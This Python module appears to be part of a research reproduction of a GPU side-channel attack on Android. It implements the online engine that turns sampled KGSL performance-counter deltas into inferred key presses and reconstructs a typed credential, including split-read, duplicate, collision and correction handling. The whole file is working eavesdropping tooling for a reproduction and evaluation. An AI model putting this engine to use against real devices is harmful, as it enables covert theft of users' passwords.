"""The Online Phase inference engine (paper Algorithm 1 + Sections 5.1-5.3).

The engine consumes the stream of nonzero PC deltas produced by the
sampler and maintains the inferred key-press set E with timestamps M:

1. **Duplication** — a key press inferred within Δt1 = 75 ms of the
   previous one is a popup-animation duplicate and is suppressed.
2. **Split** — a delta that classifies as nothing is merged with the
   previous unconsumed delta; if the combination classifies as a key
   press, it was a split read and the press is inferred at the earlier
   timestamp (the greedy step the paper notes can occasionally be wrong).
3. **System noise** — anything that still classifies as nothing.
4. **App switches** — burst detection suppresses inference while the
   user is away from the target app (Section 5.2).
5. **Corrections** — text-field redraws carry the input length; length
   drops delete the most recent inferred characters (Section 5.3).

On top of Algorithm 1, the engine applies two recovery heuristics for
collision cases the greedy algorithm loses (both grounded in what the
offline phase already knows):

* **pending-dismiss subtraction** — after a key press is inferred, its
  popup must dismiss within a few hundred ms; if an unexplained change
  arrives while that dismissal is pending (fast typing can land the
  dismissal and the *next* press in the same read), subtracting the known
  dismiss signature often reveals the press underneath;
* **duplication halving** — a popup-animation duplicate landing in the
  same read as its press doubles the delta; an unexplained change that
  classifies as a key press at half magnitude is such a merge.

The engine reads the sampler's :class:`~repro.kgsl.sampler.DeltaBatch`
arrays.  Its unit of work is the rest of one such batch:
:meth:`OnlineEngine.feed` takes a slice of rows as ``(batch, lo, hi)``
and, when the batch is not the one it holds or ``lo`` is not the next
row, primes itself with the batch's rows from ``lo`` on.  Every decision
above runs per delta, in order, but the nearest-centroid lookups are
scored in one pass per stage over the batch's rows.  The batch keeps
each lookup kind's results in row-indexed arrays, so a step reads its
lookups, the scans that choose a pass's rows are masks, and
a composite pass picks all its rows at once per field-length
restriction.  Each pass is timed with a monotonic clock and divided by
the lookups it scored; every lookup a step consumes records that share,
and the shares reach the Fig 25 latency histograms (the paper's >95 %
under 0.1 ms) in one call per batch, once its last row has stepped.

Unexplained deltas stay cheap.  The passes leave unscored the full
rows no centroid can explain (``classify_batch(bounded=True)``); the
composite pass skips the rows no composite can read as a key
(:meth:`ClassificationModel.composite_reachable`) and prunes the others'
subtraction blocks by two lower bounds
(:meth:`ClassificationModel.composite_scores`); the ambient fit skips a
refit that provably cannot find enough inliers
(:meth:`OnlineEngine._refit_cannot_pass`), from state each noise note
updates in place.  None of these changes a result bit.
"""

from __future__ import annotations

import math
import time
from collections import deque
from dataclasses import dataclass, field, fields
from typing import Deque, Dict, List, Optional, Sequence, Tuple

import numpy as np

from repro.core.appswitch import AppSwitchDetector
from repro.core.classifier import UNEXPLAINED, Classification, ClassificationModel
from repro.core.corrections import CorrectionTracker
from repro.core import features
from repro.core.dedup import DuplicationFilter
from repro.kgsl.sampler import DeltaBatch
from repro.obs import Histogram, MetricsRegistry, new_latency_histogram, resolve_registry
from repro.runtime.trace import RuntimeTrace

#: Maximum gap between two reads for split recombination: a render split
#: across reads lands in *consecutive* reads, so a little over one
#: nominal interval is enough.
SPLIT_MERGE_FACTOR = 2.6

#: A noise unit within this cosine of the ring's mean direction is an
#: inlier of the ambient fit.
_INLIER_COS = 0.9
_INLIER_ANGLE = math.acos(_INLIER_COS)

#: Slack on the refit skip's angle and cosine comparisons.
_FIT_SLACK = 1e-9


@dataclass
class InferredKey:
    """One inferred key press (an element of E with its M timestamp).

    ``low_confidence`` marks keys classified from a masked feature
    vector (counters missing at the KGSL boundary): reported rather than
    dropped, but flagged so the consumer can weigh them accordingly.
    """

    t: float
    char: str
    distance: float
    deleted: bool = False
    from_split: bool = False
    low_confidence: bool = False


@dataclass
class EngineStats:
    """Bookkeeping the evaluation section reports on."""

    deltas_seen: int = 0
    keys_inferred: int = 0
    duplicates_suppressed: int = 0
    splits_recovered: int = 0
    noise_events: int = 0
    field_events: int = 0
    deletions_detected: int = 0
    suppressed_by_switch: int = 0
    unattributed_growth: int = 0
    gaps_seen: int = 0
    masked_deltas: int = 0
    low_confidence_keys: int = 0


@dataclass
class OnlineResult:
    """Full output of one eavesdropping run.

    ``latency`` is the per-inference classifier-latency histogram (Fig
    25); it retains its raw samples.
    """

    keys: List[InferredKey] = field(default_factory=list)
    stats: EngineStats = field(default_factory=EngineStats)
    latency: Histogram = field(default_factory=new_latency_histogram)
    trace: Optional[RuntimeTrace] = None

    @property
    def text(self) -> str:
        """The inferred credential, with detected deletions applied."""
        return "".join(k.char for k in self.keys if not k.deleted)

    def key_times(self) -> List[float]:
        return [k.t for k in self.keys if not k.deleted]


class OnlineEngine:
    """Algorithm 1 with the Section 5.2/5.3 extensions."""

    #: Noise deltas kept for the ambient-baseline estimate.
    AMBIENT_WINDOW = 24
    #: Minimum noise observations before the ambient estimate is trusted.
    AMBIENT_MIN_SAMPLES = 6

    def __init__(
        self,
        model: ClassificationModel,
        interval_s: float = 0.008,
        detect_switches: bool = True,
        track_corrections: bool = True,
        recover_collisions: bool = True,
        trace: Optional[RuntimeTrace] = None,
        session: str = "",
        metrics: Optional[MetricsRegistry] = None,
        collect_evidence: bool = False,
    ) -> None:
        self.model = model
        self.interval_s = interval_s
        self.dedup = DuplicationFilter()
        self.track_corrections = track_corrections
        self.corrections = CorrectionTracker()
        self.recover_collisions = recover_collisions
        self.trace = trace
        self.session = session
        self.metrics = resolve_registry(metrics)
        # resolved once: with the null registry this is the shared no-op
        # instrument, so a batch's flush is one call either way
        self._latency_hist = self.metrics.histogram("engine.inference_latency_s")
        #: pass shares of the lookups consumed since the last flush
        self._latencies: List[float] = []
        #: the noise ring's rows, note ``i`` in slot ``i % AMBIENT_WINDOW``
        #: (:attr:`_ring` reads them oldest first), and the same slots as
        #: unit vectors (zero rows stay 0) with their norms, for
        #: :meth:`_refit_cannot_pass`
        self._slots = np.zeros((self.AMBIENT_WINDOW, features.DIMENSIONS))
        self._ring_len = 0
        self._units = np.zeros_like(self._slots)
        self._unit_norms: Deque[float] = deque(maxlen=self.AMBIENT_WINDOW)
        self._zero_units = 0
        #: (mean norm, mean direction, unit sum) of the last full fit of
        #: a ring without zero rows; since it, each unit's cosine to that
        #: direction and the unit sum's displacement from that sum
        self._last_fit: Optional[Tuple[float, np.ndarray, np.ndarray]] = None
        self._cosines = np.zeros(self.AMBIENT_WINDOW)
        self._shift = np.zeros(features.DIMENSIONS)
        self._ring_version = 0
        #: (ring version, model) the last ambient fit saw
        self._fit_inputs: Optional[Tuple[int, ClassificationModel]] = None
        #: Opt-in calibration-evidence capture: unexplained full-vector
        #: deltas (the shape drifted key presses take) are retained for
        #: the lifecycle's drift-ratio estimator.  Off by default — the
        #: fast path and golden traces are untouched.
        self.collect_evidence = collect_evidence
        self.evidence: List[np.ndarray] = []
        #: Hot swaps performed on this engine (kept off
        #: :class:`EngineStats` so existing result schemas don't shift).
        self.model_swaps = 0
        self._active_model = model
        self._deflation_u = None
        #: the composite search's field-length restriction, which only a
        #: field event changes
        self._lengths: Optional[Tuple[int, ...]] = None
        self._result: Optional[OnlineResult] = None
        self._batch: Optional[_Batch] = None
        #: the delta held for split recombination, as (batch, index)
        self._prev: Optional[Tuple[_Batch, int]] = None
        self._prev_consumed = True
        self._last_fed_t: Optional[float] = None
        self.switch_detector: Optional[AppSwitchDetector] = None
        if detect_switches:
            self.switch_detector = AppSwitchDetector(
                big_threshold=self._switch_threshold(model)
            )

    def _emit(self, t: float, kind: str, **detail) -> None:
        """Record one engine decision in the shared runtime event log."""
        if self.trace is not None:
            self.trace.emit(t, self.session, "engine", kind, **detail)

    def _flush_latency(self) -> None:
        """The consumed lookups' latencies since the last flush, into the
        result's own histogram and the run-wide registry aggregate."""
        latencies = self._latencies
        if latencies:
            self._result.latency.observe_many(latencies)
            self._latency_hist.observe_many(latencies)
            latencies.clear()

    @staticmethod
    def _switch_threshold(model: ClassificationModel) -> float:
        """Raw-magnitude threshold separating full-screen transitions from
        typing-scale changes: above every key centroid's total."""
        key_totals = model.key_totals
        return 2.5 * max(key_totals) if key_totals else 1e7

    # ------------------------------------------------------------------

    def begin(self) -> OnlineResult:
        """Open a new stream; returns the (live) result accumulator."""
        if self._result is not None:
            self._flush_latency()
        self._result = OnlineResult(trace=self.trace)
        self._prev = None
        self._prev_consumed = True
        self._last_fed_t = None
        self._batch = None
        return self._result

    def swap_model(self, model: ClassificationModel) -> None:
        """Hot-swap the classification model mid-session.

        Stream state — the dedup window, correction tracker, unconsumed
        previous delta, app-switch burst state — carries over untouched;
        only the classifier view changes.  An active ambient-deflation
        direction is re-applied to the new model, and the app-switch
        burst threshold is re-derived from the new centroids.  The held
        batch notices the swap through the ``_active_model`` identity
        check and re-scores its remaining rows against the new model, so
        no delta is ever classified twice or skipped.
        """
        self.model = model
        self._active_model = (
            model
            if self._deflation_u is None
            else model.with_deflation(self._deflation_u)
        )
        if self.switch_detector is not None:
            self.switch_detector.big_threshold = self._switch_threshold(model)
        self.model_swaps += 1
        if self.metrics.enabled:
            self.metrics.counter("engine.model_swaps").inc()
        self._emit(
            self._last_fed_t if self._last_fed_t is not None else 0.0,
            "model_swap",
            model_key=model.model_key,
        )

    def drain_evidence(self) -> List[np.ndarray]:
        """Return and clear the collected calibration-evidence vectors."""
        evidence, self.evidence = self.evidence, []
        return evidence

    def feed(self, deltas: DeltaBatch, lo: int, hi: int) -> OnlineResult:
        """Consume rows ``[lo, hi)`` of ``deltas`` (Algorithm 1, one step
        per row).

        This is the streaming entry point the session runtime drives;
        state between calls (the unconsumed previous delta, the dedup
        window, the correction tracker) lives on the engine.  When
        ``deltas`` is not the batch the engine holds, or ``lo`` is not
        its next row, the engine primes itself with the batch's rows from
        ``lo`` on, scoring their plain lookups in one pass; later steps
        score the other lookups on first demand.  The latency histograms
        are current once the batch's last row has stepped.
        """
        batch = self._batch
        if batch is None or batch.deltas is not deltas or lo - batch.base != batch.pos:
            if self._result is None:
                self.begin()
            self._flush_latency()
            batch = self._batch = _Batch(self._active_model, deltas, lo, self._prev)
        end = hi - batch.base
        for i in range(batch.pos, end):
            batch.pos = i + 1
            self._step(batch, i)
        if end == batch.size:
            self._flush_latency()
        return self._result

    def _step(self, batch: "_Batch", i: int) -> None:
        """Algorithm 1 for the batch's row ``i``."""
        result = self._result
        t = batch.times[i]
        self._last_fed_t = t
        if batch.gap[i]:
            # dropped/deferred reads between the endpoints: events in the
            # hole were merged or lost — record it even if the delta is
            # otherwise unremarkable
            result.stats.gaps_seen += 1
            self._emit(t, "gap", span_s=t - batch.starts[i])
        if not batch.live[i]:
            return
        result.stats.deltas_seen += 1
        masked = batch.masked[i]
        if masked:
            result.stats.masked_deltas += 1
            self._emit(t, "masked_delta", missing=batch.missing[i])

        # Ambient-workload correction (Fig 22b): a background app adds
        # an increment of unknown magnitude but stable *direction* to
        # every counter read.  Once that direction is estimated (from
        # the recurring unexplained deltas), the engine switches to a
        # deflated model view that projects it out of observations and
        # centroids alike, cleaning the whole pipeline at once.
        if self.recover_collisions:
            self._refresh_deflation(t=t)

        classification = self._lookup(batch, PLAIN, i)
        # the held delta, if any, is the batch's last live row before i
        prev = batch.pred[i] if self._prev is not None else None
        prev_consumed = self._prev_consumed
        self._prev = (batch, i)

        if self.switch_detector is not None:
            magnitude = self._effective_magnitude(batch.totals[i], batch.rows[i])
            observation = self.switch_detector.observe(t, magnitude, classification)
            if observation.suppress:
                result.stats.suppressed_by_switch += 1
                self._emit(t, "switch_suppressed")
                if classification.label is None and not masked:
                    # suppressed-but-unexplained changes still inform
                    # the ambient-workload estimate (a login animation
                    # can otherwise starve it into permanent suppression)
                    self._note_noise(batch.rows[i])
                self._prev_consumed = True
                return

        # Split recombination (Algorithm 1 lines 7-10): when the
        # previous change went unexplained, consider that this change
        # is the tail of a render split across two reads.  Take the
        # merged interpretation whenever it explains the data strictly
        # better than the change alone.
        merged_cls = None
        event_t = t
        if prev is not None and not prev_consumed and self._mergeable(batch, prev, i):
            merged_cls = self._lookup(batch, MERGED, i)
        if merged_cls is not None and merged_cls.label is not None and (
            classification.label is None
            or merged_cls.distance < classification.distance
        ):
            classification = merged_cls
            event_t = batch.times[prev]
            result.stats.splits_recovered += 1
            self._emit(t, "split_merge", merged_from=event_t)

        if classification.label is None and self.recover_collisions and not masked:
            # collision heuristics (halving, composite subtraction) need
            # the full feature vector — a masked delta would fabricate
            # evidence in the unobserved dimensions
            recovered = self._recover_collision(batch, i)
            if recovered is not None:
                classification = recovered
                self._emit(t, "collision_recovered")
            elif (
                merged_cls is not None
                and merged_cls.label is None
                and not batch.masked[prev]
            ):
                # a composite event (press + dismiss/field) itself split
                # across two reads: recombine, then decompose
                merged_composite = self._lookup(batch, MERGED_COMPOSITE, i)
                if merged_composite.is_key:
                    classification = merged_composite
                    event_t = batch.times[prev]
                    result.stats.splits_recovered += 1
                    self._emit(t, "split_merge", merged_from=event_t)

        if classification.is_key:
            self._infer_key(result, event_t, classification, from_split=event_t != t)
            self._prev_consumed = True
            return

        if classification.is_field:
            self._field_event(result, event_t, classification.field_length)
            # field redraws stay available for split recombination: a
            # partially-read blink can masquerade as a shorter field,
            # and its tail may arrive merged with a key press
            self._prev_consumed = False
            return

        # Reject classes and unexplained noise both leave the delta
        # available for split recombination with the *next* change: the
        # first half of a split key press often masquerades as a
        # dismiss-like reject before its tail arrives.
        result.stats.noise_events += 1
        self._emit(t, "noise", label=classification.label)
        if classification.label is None and not masked:
            self._note_noise(batch.rows[i])
        self._prev_consumed = False

    def finish(self) -> OnlineResult:
        """Close the stream: flush pending burst state, detach the result."""
        if self._result is None:
            self.begin()
        if self.switch_detector is not None and self._last_fed_t is not None:
            self.switch_detector.flush(self._last_fed_t + 1.0)
        self._flush_latency()
        result = self._result
        if self.metrics.enabled:
            # end-of-stream flush: per-session decision tallies roll up
            # into the run-wide registry, away from the per-delta path
            for stat_field in fields(EngineStats):
                value = getattr(result.stats, stat_field.name)
                if value > 0:
                    self.metrics.counter(f"engine.{stat_field.name}").inc(value)
        self._result = None
        self._batch = None
        self._prev = None
        self._prev_consumed = True
        self._last_fed_t = None
        return result

    # ------------------------------------------------------------------

    def _recover_collision(self, batch: "_Batch", row: int):
        """Try the duplication-halving, dismiss/field-subtraction and
        ambient-baseline-subtraction heuristics.

        Only key interpretations are accepted — halving or subtracting a
        field redraw would fabricate length evidence.

        The ambient baseline targets concurrent GPU workloads (Fig 22b): a
        background 3D app renders a near-constant increment every frame,
        which the engine estimates from the recurring unexplained deltas
        and subtracts before classification.
        """
        half_cls = self._lookup(batch, HALF, row)
        if half_cls.is_key:
            return half_cls
        composite_cls = self._lookup(batch, COMPOSITE, row)
        if composite_cls.is_key:
            return composite_cls
        return None

    def _mergeable(self, batch: "_Batch", prev: int, i: int) -> bool:
        """Whether the batch's row ``i`` may be the tail of a render split
        whose head is row ``prev`` (consecutive reads, in order)."""
        return (
            0.0 <= batch.times[i] - batch.times[prev] <= self.interval_s * SPLIT_MERGE_FACTOR
            and batch.starts[prev] <= batch.starts[i]
        )

    # ------------------------------------------------------------------
    # demand-driven batch scoring

    def _lookup(self, batch: "_Batch", kind: int, row: int) -> Classification:
        """One lookup a step consumes, read from the batch's pass for its
        stage (run now if no pass covered it yet).  The step records its
        pass's wall time per scored lookup (Fig 25)."""
        if batch.model is not self._active_model:
            # ambient deflation or a model swap since the batch was
            # scored: every row from this one on is re-scored
            batch.rescore(self._active_model, row)
        entry = batch.lookups[kind][row]
        if entry is None:
            self._score_stage(batch, kind, row)
            entry = batch.lookups[kind][row]
        value, per_lookup_s = entry
        self._latencies.append(per_lookup_s)
        if kind < COMPOSITE:
            return value
        scores, index = value
        return scores.picks(self._lengths)[index]

    def _score_stage(self, batch: "_Batch", kind: int, row: int) -> None:
        """Score ``kind`` for ``row``, together with every later row's
        not yet scored lookups of the same stage that the rows' earlier
        results say a step may ask for."""
        stage = _STAGE[kind]
        masks = {}
        if stage != "A":
            masks = (self._stage_b if stage == "B" else self._stage_c)(batch, row)
        if kind not in masks:
            masks[kind] = np.zeros(batch.size - row, dtype=bool)
        masks[kind][0] = True
        batch.score(
            [(k, r) for k, mask in masks.items() for r in (np.flatnonzero(mask) + row).tolist()],
            bounded=True,
        )

    def _stage_b(self, batch: "_Batch", row: int) -> Dict[int, np.ndarray]:
        """Half-scaled rows the plain pass left unexplained, and the
        split-merged rows whose predecessor did not classify as a key,
        as masks over the rows from ``row`` on."""
        tail = slice(row, None)
        pred = batch.pred[tail]
        span = batch.t[tail] - batch.t[pred]
        # the last three terms are _mergeable of each row and its pred
        merged = (
            batch.live[tail]
            & ~batch.scored[MERGED, tail]
            & ~batch.is_key[PLAIN, pred]
            & (0.0 <= span)
            & (span <= self.interval_s * SPLIT_MERGE_FACTOR)
            & (batch.prev_t[pred] <= batch.prev_t[tail])
        )
        merged[0] = False  # the step itself asks for its own row's
        masks = {MERGED: merged}
        if self.recover_collisions:
            masks[HALF] = (
                batch.unexplained[PLAIN, tail] & ~batch.masked[tail] & ~batch.scored[HALF, tail]
            )
        return masks

    def _stage_c(self, batch: "_Batch", row: int) -> Dict[int, np.ndarray]:
        """Composite rows still unexplained after the secondary pass, and
        their split-merged twins, as masks over the rows from ``row`` on."""
        tail = slice(row, None)
        merged = batch.scored[MERGED, tail]
        unexplained = (
            batch.scored[HALF, tail]
            & ~batch.is_key[HALF, tail]
            & ~(merged & ~batch.unexplained[MERGED, tail])
        )
        return {
            COMPOSITE: unexplained & ~batch.scored[COMPOSITE, tail],
            MERGED_COMPOSITE: (
                unexplained
                & merged
                & ~batch.masked[batch.pred[tail]]
                & ~batch.scored[MERGED_COMPOSITE, tail]
            ),
        }

    # ------------------------------------------------------------------

    def _effective_magnitude(self, total: int, vec: np.ndarray) -> float:
        """A delta's magnitude (``total``, its feature row ``vec``'s sum)
        with the ambient direction's share removed, so a steady background
        or animation never masquerades as an app-switch burst."""
        if self._deflation_u is None:
            return float(total)
        scaled = vec / self.model.scale
        cleaned = (scaled - float(scaled @ self._deflation_u) * self._deflation_u) * self.model.scale
        return float(np.clip(cleaned, 0.0, None).sum())

    def _refresh_deflation(self, t: Optional[float] = None) -> None:
        """Adopt (or update) the deflated model view when a stable
        ambient direction is present.  The fit depends only on the noise
        ring and the model, so it reruns only when either changed."""
        if self._fit_inputs == (self._ring_version, self.model):
            return
        self._fit_inputs = (self._ring_version, self.model)
        direction = self._ambient_direction()
        if direction is None:
            return
        _, scaled_dir = direction
        if self._deflation_u is not None and float(scaled_dir @ self._deflation_u) > 0.999:
            return  # direction unchanged
        self._deflation_u = scaled_dir
        self._active_model = self.model.with_deflation(scaled_dir)
        self._emit(t if t is not None else 0.0, "ambient_deflation")

    @property
    def _ring(self) -> np.ndarray:
        """The noise ring's rows, oldest first (zero rows until it fills),
        so the fit's means sum in arrival order."""
        slot = self._ring_version % self.AMBIENT_WINDOW
        if self._ring_len < self.AMBIENT_WINDOW or not slot:
            return self._slots
        return np.concatenate((self._slots[slot:], self._slots[:slot]))

    def _ambient_direction(self):
        """Unit direction (raw and scaled space) of the recurring
        unexplained deltas, if they point consistently enough to be a
        periodic background workload."""
        if self._ring_len < self.AMBIENT_WINDOW or self._refit_cannot_pass():
            return None
        matrix = self._ring
        norms = np.linalg.norm(matrix, axis=1)
        keep = norms > 0
        if keep.sum() < self.AMBIENT_MIN_SAMPLES:
            return None
        units = matrix[keep] / norms[keep][:, None]
        # robust direction: the ring mixes pure background deltas with
        # contaminated event windows; fit the mean direction, keep the
        # inliers, refit, and demand the inlier cluster be large and tight
        mean_dir = units.mean(axis=0)
        mean_norm = float(np.linalg.norm(mean_dir))
        if mean_norm <= 0:
            return None
        mean_dir = mean_dir / mean_norm
        if keep.all():
            self._last_fit = (mean_norm, mean_dir, self._units.sum(axis=0))
            self._cosines = self._units @ mean_dir
            self._shift = np.zeros(features.DIMENSIONS)
        cosines = units @ mean_dir
        inliers = cosines > _INLIER_COS
        if inliers.sum() < max(self.AMBIENT_MIN_SAMPLES, 0.5 * len(units)):
            return None
        refined = units[inliers].mean(axis=0)
        refined_norm = float(np.linalg.norm(refined))
        if refined_norm < 0.98:
            return None
        raw_dir = refined / refined_norm
        scaled = matrix[keep][inliers] / self.model.scale[None, :]
        scaled_units = scaled / np.linalg.norm(scaled, axis=1)[:, None]
        scaled_dir = scaled_units.mean(axis=0)
        scaled_dir = scaled_dir / np.linalg.norm(scaled_dir)
        return raw_dir, scaled_dir

    def _refit_cannot_pass(self) -> bool:
        """Whether the noise ring has moved too little since the last
        full fit for a refit to find enough inliers (the refit is None).

        That fit saw ``n`` units with mean norm ``mu`` and direction
        ``d``; with their sum displaced by ``shift`` since, the mean
        direction has turned by at most ``asin(|shift| / (n mu))``.  A
        unit is an inlier only within ``acos(0.9)`` of the new direction,
        so only if its cosine to ``d`` exceeds ``cos(acos(0.9) + turn)``.
        The bound holds for a ring without zero rows; its float slack
        dwarfs the rounding of sums of 24 unit vectors, and of the
        cosines and displacement :meth:`_note_noise` keeps.
        """
        if self._last_fit is None or self._zero_units:
            return False
        n = self.AMBIENT_WINDOW
        shift = self._shift
        ratio = (math.sqrt(shift.dot(shift)) + _FIT_SLACK * n) / (n * self._last_fit[0])
        if not ratio < 1.0:
            return False
        cut = math.cos(_INLIER_ANGLE + math.asin(ratio) + _FIT_SLACK) - _FIT_SLACK
        candidates = int(np.count_nonzero(self._cosines > cut))
        return candidates < max(self.AMBIENT_MIN_SAMPLES, 0.5 * n)

    #: Calibration-evidence vectors retained between drains.
    EVIDENCE_CAP = 512

    def _note_noise(self, vec: np.ndarray) -> None:
        """Retain an unexplained delta's feature row ``vec`` for the
        ambient fit, and update the refit skip's state in place: the
        zero-unit count, the slot's cosine to the last fit's direction,
        and the unit sum's displacement, re-summed exactly every
        :attr:`AMBIENT_WINDOW` notes.  Masked rows are never noted: zeros
        in unobserved dimensions would bend the ambient direction
        estimate toward the observed subspace."""
        if self._ring_len < self.AMBIENT_WINDOW:
            self._ring_len += 1
        slot = self._ring_version % self.AMBIENT_WINDOW
        self._slots[slot] = vec
        unit, fit = self._units[slot], self._last_fit
        norms = self._unit_norms
        if len(norms) == norms.maxlen and norms[0] == 0.0:
            self._zero_units -= 1
        norm = math.sqrt(vec.dot(vec))
        norms.append(norm)
        if fit is not None:
            self._shift -= unit
        if norm > 0:
            np.divide(vec, norm, out=unit)
        else:
            unit[:] = 0.0
            self._zero_units += 1
        self._ring_version += 1
        if fit is not None:
            self._cosines[slot] = unit.dot(fit[1])
            if self._ring_version % self.AMBIENT_WINDOW:
                self._shift += unit
            else:
                self._shift = self._units.sum(axis=0) - fit[2]
        if self.collect_evidence and len(self.evidence) < self.EVIDENCE_CAP:
            # drifted key presses land here: full-vector changes the
            # frozen model can no longer explain
            self.evidence.append(vec.copy())

    def _plausible_lengths(self):
        """Field lengths the composite search may subtract: near the
        correction tracker's current estimate, or unrestricted before any
        field event has been seen."""
        if not self.track_corrections:
            return None
        bounds = self.corrections.length_bounds()
        if bounds is None:
            return None
        lo, hi = bounds
        return tuple(range(max(0, lo - 1), hi + 3))

    def _infer_key(
        self, result: OnlineResult, t: float, classification, from_split: bool
    ) -> None:
        if not self.dedup.admit(t):
            result.stats.duplicates_suppressed += 1
            self._emit(t, "duplicate_suppressed")
            return
        char = classification.key_char
        assert char is not None
        low_confidence = getattr(classification, "confidence", 1.0) < 1.0
        result.keys.append(
            InferredKey(
                t=t,
                char=char,
                distance=classification.distance,
                from_split=from_split,
                low_confidence=low_confidence,
            )
        )
        result.stats.keys_inferred += 1
        if low_confidence:
            result.stats.low_confidence_keys += 1
            self._emit(t, "key", char=char, from_split=from_split, low_confidence=True)
        else:
            self._emit(t, "key", char=char, from_split=from_split)

    def _field_event(self, result: OnlineResult, t: float, length: Optional[int]) -> None:
        result.stats.field_events += 1
        self._emit(t, "field", length=length)
        if not self.track_corrections or length is None:
            return
        emitted = self.corrections.observe(
            t, length, keys_inferred_total=result.stats.keys_inferred
        )
        self._lengths = self._plausible_lengths()
        result.stats.unattributed_growth = self.corrections.unattributed_growth
        for event in emitted:
            result.stats.deletions_detected += 1
            self._emit(event.t, "correction")
            # delete the inferred key that actually preceded the backspace:
            # the most recent not-yet-deleted key inferred before the
            # decrease was first observed
            candidates = [
                k for k in result.keys if not k.deleted and k.t < event.t
            ]
            target = candidates[-1] if candidates else None
            if target is None:
                remaining = [k for k in result.keys if not k.deleted]
                target = remaining[-1] if remaining else None
            if target is not None:
                target.deleted = True


#: Lookup kinds a step can consume, by scoring stage: A scores every row
#: when the batch is primed; B (half-scaled, split-merged) and C
#: (composite, split-merged composite) score on first demand.
PLAIN, MERGED, HALF, COMPOSITE, MERGED_COMPOSITE = range(5)
_STAGE = ("A", "B", "B", "C", "C")


class _CompositePass:
    """One stage-C pass over a matrix of rows: the block scores of the
    rows that may read as a key, and every row's pick per field-length
    restriction, made on first demand.  The other rows are not scored
    and read as :data:`UNEXPLAINED`."""

    __slots__ = ("model", "size", "reachable", "scores", "_picks")

    def __init__(self, model: ClassificationModel, matrix: np.ndarray) -> None:
        self.model = model
        self.size = len(matrix)
        self.reachable = np.flatnonzero(model.composite_reachable(matrix)).tolist()
        self.scores = model.composite_scores(matrix[self.reachable]) if self.reachable else None
        self._picks: Dict[Optional[Tuple[int, ...]], List[Classification]] = {}

    def picks(self, lengths: Optional[Tuple[int, ...]]) -> List[Classification]:
        picks = self._picks.get(lengths)
        if picks is None:
            picks = self._picks[lengths] = [UNEXPLAINED] * self.size
            if self.scores is not None:
                scored = self.model.pick_composites(*self.scores, lengths)
                for row, pick in zip(self.reachable, scored):
                    picks[row] = pick
        return picks


class _Batch:
    """The rest of one :class:`DeltaBatch` the engine primed itself with:
    its feature rows, and every lookup scored for them so far.

    Row 0 is the delta the engine held when the batch was primed (a zero
    row if none), rows 1.. are the batch's deltas from its row
    ``base + 1`` on, and ``pred[r]`` is the row whose delta the engine
    will hold when row ``r`` steps.  Feature rows hold exact counts below
    2**53, so a split-merged row is the float sum of the two rows.  The
    per-step fields are lists, read once per step.

    ``lookups[kind][row]`` is ``(value, seconds)`` once scored, else
    ``None``: the value is a :class:`Classification`, or for the composite
    kinds the pass and the row's index in it; the seconds are the pass's
    wall time per lookup.  ``scored``, ``is_key`` and ``unexplained``
    (label ``None``) are ``(kind, row)`` flags the stage scans mask on.
    """

    def __init__(
        self,
        model: ClassificationModel,
        deltas: DeltaBatch,
        start: int,
        prev: Optional[Tuple["_Batch", int]],
    ) -> None:
        self.deltas = deltas
        self.base = start - 1
        self.pos = 1
        self.size = n = len(deltas) - self.base
        self.rows = np.zeros((n, features.DIMENSIONS))
        self.unknown = np.zeros((n, features.DIMENSIONS), dtype=bool)
        self.t = np.zeros(n)
        self.prev_t = np.zeros(n)
        if prev is not None:
            held, r = prev
            self.rows[0], self.unknown[0] = held.rows[r], held.unknown[r]
            self.t[0], self.prev_t[0] = held.t[r], held.prev_t[r]
        self.rows[1:] = deltas.rows[start:]
        self.unknown[1:] = deltas.unknown[start:]
        self.t[1:] = deltas.t[start:]
        self.prev_t[1:] = deltas.prev_t[start:]
        self.live = self.rows.any(axis=1)
        self.live[0] = False
        self.masked = self.unknown.any(axis=1)
        self.present = ~self.unknown if self.masked.any() else None
        # the last live row before each row, or row 0
        live_rows = np.where(self.live, np.arange(n), 0)
        self.pred = np.zeros(n, dtype=np.intp)
        self.pred[1:] = np.maximum.accumulate(live_rows)[:-1]
        self.times = self.t.tolist()
        self.starts = self.prev_t.tolist()
        self.gap = [False, *deltas.gap[start:].tolist()]
        self.totals = [0, *deltas.rows[start:].sum(axis=1).tolist()]
        self.missing = self.unknown.sum(axis=1).tolist()
        self.rescore(model, 1)

    def rescore(self, model: ClassificationModel, row: int) -> None:
        """Drop every lookup and score the plain lookups of the rows from
        ``row`` on against ``model`` (stage A)."""
        self.model = model
        n = self.size
        self.lookups: List[List[Optional[Tuple[object, float]]]] = [[None] * n for _ in _STAGE]
        self.scored, self.is_key, self.unexplained = np.zeros((3, len(_STAGE), n), dtype=bool)
        self.score(
            [(PLAIN, r) for r in (np.flatnonzero(self.live[row:]) + row).tolist()], bounded=True
        )

    def score(self, wanted: List[Tuple[int, int]], bounded: bool = False) -> None:
        """One pass over ``wanted`` ``(kind, row)`` lookups of one stage;
        each records the pass's wall time per lookup.  ``bounded`` passes
        the flag on to :meth:`ClassificationModel.classify_batch`: the
        engine's passes leave the rows no centroid can explain unscored,
        since a step reads no distance of an unexplained lookup."""
        if not wanted:
            return
        t0 = time.perf_counter()
        kinds = [kind for kind, _ in wanted]
        rows = [row for _, row in wanted]
        matrix = self.rows[rows]
        merged = [k for k, kind in enumerate(kinds) if kind == MERGED or kind == MERGED_COMPOSITE]
        if merged:
            preds = self.pred[[rows[k] for k in merged]]
            matrix[merged] += self.rows[preds]
        half = [k for k, kind in enumerate(kinds) if kind == HALF]
        if half:
            # each count halved and truncated toward zero
            matrix[half] = np.trunc(matrix[half] * 0.5)
        composite = _STAGE[kinds[0]] == "C"
        if composite:
            scores = _CompositePass(self.model, matrix)
            values: Sequence[object] = [(scores, k) for k in range(len(wanted))]
        else:
            present = None
            if self.present is not None:
                present = self.present[rows]
                if merged:
                    present[merged] &= self.present[preds]
            values = self.model.classify_batch(matrix, present, bounded=bounded)
        per_lookup_s = (time.perf_counter() - t0) / len(wanted)
        lookups = self.lookups
        for kind, row, value in zip(kinds, rows, values):
            lookups[kind][row] = (value, per_lookup_s)
        index = (np.array(kinds), np.array(rows))
        self.scored[index] = True
        if not composite:
            self.is_key[index] = [value.is_key for value in values]
            self.unexplained[index] = [value.label is None for value in values]
